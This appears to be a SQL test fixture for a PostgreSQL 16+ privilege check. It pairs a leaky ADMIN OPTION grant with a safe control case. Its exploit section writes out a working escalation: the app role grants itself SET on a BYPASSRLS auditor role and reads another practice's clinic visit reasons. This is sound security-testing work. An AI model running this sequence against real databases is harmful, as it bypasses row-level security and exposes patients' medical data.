-- From 16 on CREATEROLE is tamed, but ADMIN OPTION on the role is enough to give oneself the rest.
-- object: role:{app}
-- server: 16+
-- base: third_clinic
--- setup
RESET ROLE;
CREATE ROLE {auditor} NOLOGIN BYPASSRLS;
GRANT USAGE ON SCHEMA clinic TO {auditor};
GRANT SELECT ON clinic.visit TO {auditor};
--- leak
RESET ROLE;
GRANT {auditor} TO {app} WITH ADMIN TRUE, INHERIT FALSE, SET FALSE;
--- twin
RESET ROLE;
GRANT {auditor} TO {app} WITH ADMIN FALSE, INHERIT FALSE, SET FALSE;
--- exploit
GRANT {auditor} TO {app} WITH SET TRUE;
SET LOCAL ROLE {auditor};
SELECT reason FROM clinic.visit WHERE practice_id = '{B}';
